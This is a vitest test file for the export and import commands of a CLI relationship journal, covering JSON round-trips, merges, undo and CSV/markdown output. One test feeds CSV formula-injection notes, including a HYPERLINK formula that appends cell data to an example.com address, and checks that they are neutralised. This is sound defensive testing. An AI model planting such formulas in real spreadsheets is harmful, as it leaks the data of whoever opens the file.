import Database from 'better-sqlite3';
import { existsSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { readCsv } from '../../src/core/csv';
import { fieldOf } from '../../src/core/export-format';
import { LOCAL_TABLES, transferPlan, untravelledTables } from '../../src/db/transfer';
import { sandbox, type Sandbox } from './run';

const sandboxes: Sandbox[] = [];
const fresh = (options: { now?: string; tz?: string } = {}) => {
  const s = sandbox(options);
  sandboxes.push(s);
  return s;
};
afterEach(() => {
  for (const s of sandboxes.splice(0)) s.cleanup();
});

const NOTE = 'Walked, talked; she said "come again" —\nsoon 🙂, really';

/** A journal with a bit of everything: aliases, tags, archive, merge, delete, moods, touchpoints, check-ins, settings. */
function richJournal(s: Sandbox): void {
  const ok = (args: string[], now?: string) => {
    const r = s.run(args, { now });
    expect(r.code, `${args.join(' ')}: ${r.stderr}`).toBe(0);
    return r;
  };
  ok(['people', 'add', 'Grace Hopper', '--alias', 'The Admiral', '--tag', 'navy', '--tag', 'science']);
  ok([
    'log',
    'Sam',
    'Grace Hopper',
    '--channel',
    'in-person',
    '--activity',
    'walk',
    '--before',
    '2',
    '--after',
    '4',
    '--felt',
    'safe,available',
    '--quality',
    '5',
    '--minutes',
    '45',
    '--initiated',
    'me',
    '--note',
    NOTE,
    '--when',
    '2026-10-03 17:30',
  ]);
  ok(['log', 'Alex', '--channel', 'text', '--when', '2026-11-02 09:15']);
  ok(['log', '--small', '--note', 'the barista remembered my name', '--when', 'yesterday 8am']);
  ok(['mood', '2', '--energy', '3', '--note', 'tired, but ok', '--when', '2026-11-20 21:00']);
  const gone = ok(['mood', '4', '--when', '2 hours ago', '--json']).json().id as string;
  ok(['delete', gone, '--yes']);
  ok(['people', 'add', 'Jo']);
  ok(['people', 'archive', 'Jo']);
  ok(['people', 'add', 'Samuel']);
  ok(['people', 'merge', 'Samuel', 'Sam']);
  ok(['touchpoint', 'add', 'Sunday call', '--every', 'week on sunday', '--with', 'Sam', '--channel', 'call']);
  ok(['checkin', '--answers', '2,1,2']);
  ok(['config', 'set', 'week.start', 'sunday']);
}

const exportText = (s: Sandbox) => {
  const r = s.run(['export']);
  expect(r.code, r.stderr).toBe(0);
  return r.stdout;
};

describe('connect export --format json and connect import', () => {
  it('round-trips: export, import into an empty journal, export again gives the same file; twice adds nothing', () => {
    const a = fresh();
    richJournal(a);
    const file = join(a.dir, 'journal.json');
    expect(a.run(['export', '--out', file]).code).toBe(0);
    const original = readFileSync(file, 'utf8');
    const document = JSON.parse(original);
    expect(document).toMatchObject({ format: 'connect-journal', formatVersion: 1 });
    expect(document.people.map((p: any) => p.name)).toEqual(
      expect.arrayContaining(['Grace Hopper', 'Sam', 'Alex', 'Jo', 'Samuel']),
    );
    expect(document.people.find((p: any) => p.name === 'Samuel')).toMatchObject({
      mergedInto: expect.any(String),
      deletedAt: expect.any(String),
    });
    expect(document.entries.filter((e: any) => e.deletedAt !== null)).toHaveLength(1);
    expect(document.touchpoints).toHaveLength(1);
    expect(document.checkins).toHaveLength(1);
    expect(document.settings).toEqual([expect.objectContaining({ key: 'week.start', value: 'sunday' })]);

    const b = fresh();
    const imported = b.run(['import', file, '--json']);
    expect(imported.code, imported.stderr).toBe(0);
    expect(imported.json().added).toMatchObject({ people: 5, entries: 5, touchpoints: 1, checkins: 1, settings: 1 });
    expect(exportText(b)).toBe(original);

    const again = b.run(['import', file, '--json']);
    expect(again.json().added).toEqual({ people: 0, touchpoints: 0, entries: 0, checkins: 0, settings: 0 });
    expect(b.run(['import', file]).stdout).toContain('Nothing new in journal.json');
    expect(exportText(b)).toBe(original);
    // What the other commands see is the same too.
    expect(b.run(['history', '--json']).stdout).toBe(a.run(['history', '--json']).stdout);
    expect(b.run(['people', '--json']).stdout).toBe(a.run(['people', '--json']).stdout);
  });

  it('carries every column of every table that travels, and nothing is left unclaimed', () => {
    const s = fresh();
    richJournal(s);
    const db = new Database(s.db, { readonly: true });
    try {
      expect(untravelledTables(db)).toEqual([]);
      const document = JSON.parse(exportText(s));
      for (const spec of transferPlan(db)) {
        const columns = (db.pragma(`table_info(${spec.table})`) as { name: string; pk: number }[]).filter(
          (c) => !(c.name === 'id' && c.pk === 1),
        );
        const expected = [...columns.map((c) => fieldOf(c.name)), ...(spec.children ?? []).map((c) => c.field)].sort();
        expect(document[spec.section].length, spec.section).toBeGreaterThan(0);
        for (const row of document[spec.section]) expect(Object.keys(row).sort(), spec.section).toEqual(expected);
      }
      const names = db
        .prepare("SELECT name FROM sqlite_schema WHERE type = 'table' AND name NOT LIKE 'sqlite_%'")
        .pluck()
        .all() as string[];
      expect(names.filter((n) => LOCAL_TABLES.includes(n)).sort()).toEqual(
        LOCAL_TABLES.filter((n) => names.includes(n)).sort(),
      );
    } finally {
      db.close();
    }
  });

  it('keeps the newer side of a row changed on both sides', () => {
    const a = fresh();
    const id = a.run(['log', 'Sam', '--note', 'first words', '--json']).json().id as string;
    const first = join(a.dir, 'first.json');
    a.run(['export', '--out', first]);
    const b = fresh();
    b.run(['import', first]);

    // Changed later in A: the file is newer than B's copy, so B takes it.
    a.run(['edit', id, '--note', 'edited on the laptop'], { now: '2026-11-27T10:00:00Z' });
    const second = join(a.dir, 'second.json');
    a.run(['export', '--out', second]);
    const r = b.run(['import', second, '--json']);
    expect(r.json().updated.entries).toBe(1);
    expect(b.run(['history', '--json']).json()[0].note).toBe('edited on the laptop');

    // Changed even later in B: the older file leaves B's version alone.
    b.run(['edit', id, '--note', 'edited on the phone'], { now: '2026-11-28T10:00:00Z' });
    expect(b.run(['import', second, '--json']).json().updated.entries).toBe(0);
    expect(b.run(['history', '--json']).json()[0].note).toBe('edited on the phone');
  });

  it('merges someone known on both devices under the same name into one person', () => {
    const a = fresh();
    a.run(['log', 'Sam', '--note', 'from the laptop', '--when', '2 days ago']);
    const file = join(a.dir, 'a.json');
    a.run(['export', '--out', file]);
    const b = fresh();
    b.run(['log', 'sam', '--note', 'from the phone']);
    expect(b.run(['import', file]).code).toBe(0);
    const people = b.run(['people', '--json']).json();
    expect(people).toHaveLength(1);
    expect(people[0].interactions).toBe(2);
    expect(b.run(['history', '--person', 'Sam', '--json']).json()).toHaveLength(2);
    expect(b.run(['import', file, '--json']).json().added).toMatchObject({ people: 0, entries: 0 });
  });

  it('is taken back as a whole by connect undo', () => {
    const s = fresh();
    s.run(['log', 'Alex']);
    const before = exportText(s);
    const other = fresh();
    richJournal(other);
    const file = join(other.dir, 'all.json');
    other.run(['export', '--out', file]);
    expect(s.run(['import', file]).code).toBe(0);
    expect(exportText(s)).not.toBe(before);
    expect(s.run(['undo']).stdout).toContain('import of all.json');
    expect(exportText(s)).toBe(before);
  });

  it('prints an empty export on a missing journal and creates nothing', () => {
    const s = fresh();
    const document = JSON.parse(exportText(s));
    expect(document).toMatchObject({ format: 'connect-journal', people: [], entries: [], settings: [] });
    expect(existsSync(s.db)).toBe(false);
  });

  it('writes --out files readable by the owner only, replacing an older export', () => {
    const s = fresh();
    s.run(['log', 'Sam']);
    const out = join(s.dir, 'out.json');
    writeFileSync(out, 'old', { mode: 0o644 });
    const r = s.run(['export', '--out', out, '--json']);
    expect(r.json()).toMatchObject({ path: out, format: 'json', entries: 1 });
    expect(statSync(out).mode & 0o777).toBe(0o600);
    expect(JSON.parse(readFileSync(out, 'utf8')).entries).toHaveLength(1);
  });

  it.each([
    [['--format', 'xml'], '--format takes one of json, csv, markdown'],
    [['--format', 'csv', '--json'], 'needs --out FILE'],
  ])('refuses %j with exit 2', (args, message) => {
    const s = fresh();
    const r = s.run(['export', ...args]);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain(message);
  });
});

describe('connect export --format csv and markdown', () => {
  it('writes one RFC 4180 row per entry, quoting commas, quotes, line breaks and emoji', () => {
    const s = fresh();
    richJournal(s);
    const r = s.run(['export', '--format', 'csv']);
    expect(r.code).toBe(0);
    expect(r.stdout.endsWith('\r\n')).toBe(true);
    const [header, ...rows] = readCsv(r.stdout);
    expect(header.slice(0, 4)).toEqual(['id', 'type', 'at', 'people']);
    const history = s.run(['history', '--json', '--limit', '100']).json();
    expect(rows).toHaveLength(history.length);
    const walk = rows.find((row) => row[header.indexOf('activity')] === 'walk') as string[];
    expect(walk[header.indexOf('note')]).toBe(NOTE);
    expect(walk[header.indexOf('people')]).toBe('Sam; Grace Hopper');
    expect(walk[header.indexOf('felt')]).toBe('safe; available');
    expect(r.stdout).toContain('"Walked, talked; she said ""come again"" —\nsoon 🙂, really"');
    const mood = rows.find((row) => row[header.indexOf('type')] === 'mood') as string[];
    expect(mood[header.indexOf('note')]).toBe('tired, but ok');
  });

  it('keeps text a spreadsheet would run as a formula as text', () => {
    const s = fresh();
    const formulas = ['=HYPERLINK("https://example.com/?"&A1,"more")', '+1 for the walk', '-ish day', '@Sam'];
    for (const note of formulas) expect(s.run(['log', 'Sam', '--note', note]).code).toBe(0);
    expect(s.run(['log', '=1+1']).code).toBe(0);
    const [header, ...rows] = readCsv(s.run(['export', '--format', 'csv']).stdout);
    const notes = rows.map((row) => row[header.indexOf('note')]).filter(Boolean);
    expect(notes.sort()).toEqual(formulas.map((note) => `'${note}`).sort());
    expect(rows.map((row) => row[header.indexOf('people')])).toContain("'=1+1");
    expect(rows.every((row) => !/^[=+\-@\t\r]/.test(row.join('')))).toBe(true);
    // JSON keeps every note exactly as written.
    expect(
      s
        .run(['export', '--format', 'json'])
        .json()
        .entries.map((e: any) => e.note)
        .filter(Boolean)
        .sort(),
    ).toEqual([...formulas].sort());
  });

  it('writes a readable journal by month, oldest first', () => {
    const s = fresh();
    richJournal(s);
    const md = s.run(['export', '--format', 'markdown']).stdout;
    const months = [...md.matchAll(/^## (.+)$/gm)].map((m) => m[1]);
    expect(months).toEqual(['People', 'Touchpoints', 'Check-ins', 'October 2026', 'November 2026']);
    expect(md).toContain('- **Grace Hopper** — also The Admiral · #navy #science');
    expect(md).toMatch(/\*\*Sat 3 Oct, 17:30\*\* — A walk with Sam and Grace Hopper · 45 min · mood 2 → 4/);
    expect(md).toContain('  > soon 🙂, really');
    expect(md).toContain('**Fri 20 Nov, 21:00** — Mood check-in · mood 2 · energy 3');
    expect(md).not.toContain('Thu 26 Nov, 09:00'); // the deleted mood is not there
  });
});
